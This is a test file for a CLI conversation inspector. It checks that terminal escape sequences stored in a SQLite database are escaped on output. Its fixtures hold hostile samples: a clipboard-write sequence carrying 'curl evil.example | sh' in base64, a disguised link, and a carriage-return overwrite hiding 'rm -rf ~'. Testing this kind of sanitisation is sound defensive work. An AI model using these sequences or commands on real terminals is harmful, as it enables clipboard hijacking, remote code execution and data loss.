import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createContextManager } from '@ctxkit/context-manager';
import { createSqliteProvider } from '@ctxkit/provider-sqlite';
import Database from 'better-sqlite3';
import { describe, expect, it } from 'vitest';
import type { BuildReport, ConversationReport } from '../src/index.js';
import { runCtxkit } from './cli-process.js';

// What a hostile row can hold: window title, clipboard write (OSC 52), a link (OSC 8), screen
// clearing (CSI), the 8-bit CSI (C1), DEL and a carriage return that overwrites the line.
const TITLE = '\u001b]0;owned\u0007';
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const LINK = '\u001b]8;;https://evil.example/\u001b\\click here\u001b]8;;\u001b\\';
const CLEAR = '\u001b[2J\u001b[H';
const EIGHT_BIT = '\u009b31m\u009d0;c1\u009c';
const OVERWRITE = 'harmless\rrm -rf ~\u007f';
const HOSTILE = [TITLE, CLIPBOARD, LINK, CLEAR, EIGHT_BIT, OVERWRITE];

/** Any C0 control but line feed, DEL or C1: what a terminal acts on. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

/** Any C0, DEL or C1 control character. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
const ANY_CONTROL = /[\u0000-\u001f\u007f-\u009f]/;

const conversation = `ops${TITLE}${EIGHT_BIT}`;
/** The id the library writes under: it refuses control characters in ids, a hand edit does not. */
const written = 'ops';
const file = join(mkdtempSync(join(tmpdir(), 'ctxkit-inspector-escapes-')), 'hostile.sqlite');
{
  const provider = createSqliteProvider({ filename: file });
  const manager = createContextManager({ model: 'gpt-4o', maxTokens: 600, events: provider });
  for (let turn = 0; turn < 3; turn++) {
    await provider.append(written, [
      { role: 'user', content: `Question ${turn} ${HOSTILE.join(' ')} ${'why '.repeat(80)}` },
      {
        role: 'assistant',
        content: [
          { type: 'text', text: `Calling ${CLIPBOARD}` },
          {
            type: 'tool-call',
            toolCallId: `call-${turn}`,
            toolName: `read${LINK}`,
            input: { path: CLEAR },
          },
        ],
      },
      {
        role: 'tool',
        content: [
          {
            type: 'tool-result',
            toolCallId: `call-${turn}`,
            toolName: `read${LINK}`,
            output: `${OVERWRITE} ${'because '.repeat(80)}`,
          },
        ],
      },
    ]);
    await manager.fit(await provider.getHistory(written), { conversationId: written });
  }
  await provider.close();
  // What the pipeline writes itself (stage names, reasons, warnings), as a hand edit would set it.
  const db = new Database(file);
  db.prepare(
    `update events set payload = json_set(payload,
       '$.steps[0].name', ?, '$.changes[0].step', ?, '$.changes[0].action', 'truncated',
       '$.predictedCost.warnings', json_array(?, ?))`,
  ).run(`stage${TITLE}`, `stage${CLEAR}`, CLIPBOARD, EIGHT_BIT);
  // The conversation id too, in every table that names one.
  const tables = db
    .prepare(
      `select m.name from sqlite_master m join pragma_table_info(m.name) c
       where m.type = 'table' and c.name = 'conversation_id'`,
    )
    .all() as { name: string }[];
  for (const { name } of tables) {
    db.prepare(`update "${name}" set conversation_id = ? where conversation_id = ?`).run(
      conversation,
      written,
    );
  }
  db.close();
}

/** `text` as the terminal must show it: each C0, DEL and C1 character as its `\uXXXX` escape. */
function shown(text: string): string {
  return [...text]
    .map((character) =>
      ANY_CONTROL.test(character)
        ? `\\u${character.charCodeAt(0).toString(16).padStart(4, '0')}`
        : character,
    )
    .join('');
}

/** Expects text without a control character a terminal acts on, the planted text visible. */
function expectEscaped(text: string) {
  expect(text).not.toMatch(RAW_CONTROL);
  // The printable rest of a planted sequence is still there to be read.
  expect(text).toContain(']52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==');
}

describe('stored text on the terminal: control characters escaped', () => {
  it('inspect lists a conversation whose id holds escape sequences, escaped', () => {
    const { status, stdout, stderr } = runCtxkit(['inspect', file]);
    expect(stderr).toBe('');
    expect(status).toBe(0);
    expect(stdout).not.toMatch(RAW_CONTROL);
    expect(stdout).toContain(shown(conversation));
  });

  it('--conversation escapes the id, stage names and the progress line on stderr', () => {
    const { status, stdout, stderr } = runCtxkit([
      'inspect',
      file,
      '--conversation',
      conversation,
      '--page-size',
      '1',
    ]);
    expect(status).toBe(0);
    expect(stdout).not.toMatch(RAW_CONTROL);
    expect(stdout).toContain(shown(`stage${TITLE}`));
    expect(stderr).toContain('reading the builds of');
    expect(stderr).not.toMatch(RAW_CONTROL);
  });

  it('--build escapes previews, tool names, reasons and warnings', () => {
    const { status, stdout } = runCtxkit([
      'inspect',
      file,
      '--conversation',
      conversation,
      '--build',
      '1',
    ]);
    expect(status).toBe(0);
    expectEscaped(stdout);
    expect(stdout).toContain(shown(`truncated by stage${CLEAR}`));
    expect(stdout).toContain(shown(EIGHT_BIT));
  });

  it('an error that quotes what was asked for escapes it too', () => {
    const { status, stderr } = runCtxkit([
      'inspect',
      file,
      '--conversation',
      `x${EIGHT_BIT}${TITLE}`,
    ]);
    expect(status).toBe(2);
    expect(stderr.trimEnd().split('\n')).toHaveLength(1);
    expect(stderr).not.toMatch(RAW_CONTROL);
  });

  it('--json stays exact JSON, with C1, DEL and the line separators escaped as well', () => {
    const { status, stdout } = runCtxkit([
      'inspect',
      file,
      '--conversation',
      conversation,
      '--json',
    ]);
    expect(status).toBe(0);
    expect(stdout).not.toMatch(/[\u007f-\u009f\u2028\u2029]/);
    const report = JSON.parse(stdout) as ConversationReport;
    expect(report.conversation.id).toBe(conversation);
    const steps = (report.builds[0] as BuildReport).steps;
    expect(steps[0]?.name).toBe(`stage${TITLE}`);
    expect((report.builds[0] as BuildReport).cost?.warnings).toEqual([CLIPBOARD, EIGHT_BIT]);
  });
});
